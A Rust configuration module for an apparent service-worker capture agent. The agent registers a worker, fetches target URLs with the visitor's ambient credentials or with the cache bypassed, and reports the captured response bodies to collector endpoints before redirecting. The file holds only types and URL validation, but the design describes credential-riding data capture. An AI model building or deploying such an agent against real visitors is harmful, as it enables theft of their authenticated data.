use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::FailureStage;

/// How the landing routine installs the probe worker.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum InstallStrategy {
    /// Register the worker script directly.
    FreshInstall,
    /// Unregister every existing registration first, then register fresh.
    ForcedReinstall,
}

/// How the worker fetches targets and encodes captured bodies.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum CaptureMode {
    /// Ambient-credential fetch; body read in one step, raw bytes encoded.
    Credentialed,
    /// Cache-bypassing fetch; body streamed, then transcoded to UTF-8 text.
    CacheBypass,
}

impl CaptureMode {
    /// Stage tag for a failure while materializing the response body.
    pub fn body_stage(self) -> FailureStage {
        match self {
            CaptureMode::Credentialed => FailureStage::ResponseDecoding,
            CaptureMode::CacheBypass => FailureStage::BlobDecoding,
        }
    }

    /// Stage tag for a failure while transcoding the body to text.
    ///
    /// Credentialed capture has a single body-read step, so transcoding
    /// faults keep the same tag as materialization faults.
    pub fn text_stage(self) -> FailureStage {
        match self {
            CaptureMode::Credentialed => FailureStage::ResponseDecoding,
            CaptureMode::CacheBypass => FailureStage::TextDecoding,
        }
    }

    /// Whether success reports carry the HTTP status of the target response.
    pub fn includes_status(self) -> bool {
        matches!(self, CaptureMode::CacheBypass)
    }
}

/// Externally supplied configuration, read-only to the core.
///
/// The collector endpoint URLs are explicit fields here; in a deployed
/// setup they are same-origin routes of the collector itself.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AgentConfig {
    /// URL of the worker script to register.
    pub worker_script_url: String,
    /// Target URLs to probe. Duplicates are probed independently.
    pub targets: Vec<String>,
    /// Where to navigate once the lifecycle routine finishes.
    pub redirect_url: String,
    /// Delay before the fallback redirect fires, in milliseconds.
    pub redirect_delay_ms: u64,
    /// Enables the debug-level log side channel.
    pub debug_logging: bool,
    /// Whether the worker starts fetching immediately on activation.
    pub auto_invoke: bool,
    /// Landing-routine install variant.
    pub install_strategy: InstallStrategy,
    /// Worker fetch/encode variant.
    pub capture_mode: CaptureMode,
    /// Collector endpoint receiving success reports.
    pub success_report_url: String,
    /// Collector endpoint receiving failure reports.
    pub failure_report_url: String,
}

#[derive(Debug, Error, PartialEq, Eq)]
pub enum ConfigError {
    #[error("invalid {field} url {value:?}: {source}")]
    InvalidUrl {
        field: &'static str,
        value: String,
        source: url::ParseError,
    },
}

impl AgentConfig {
    /// Validates every URL the agent itself must be able to reach.
    ///
    /// Target entries are deliberately not validated: an unparsable target
    /// still yields exactly one `url_fetch` failure report at probe time.
    pub fn validate(&self) -> Result<(), ConfigError> {
        for (field, value) in [
            ("worker_script", &self.worker_script_url),
            ("redirect", &self.redirect_url),
            ("success_report", &self.success_report_url),
            ("failure_report", &self.failure_report_url),
        ] {
            url::Url::parse(value).map_err(|source| ConfigError::InvalidUrl {
                field,
                value: value.clone(),
                source,
            })?;
        }
        Ok(())
    }
}
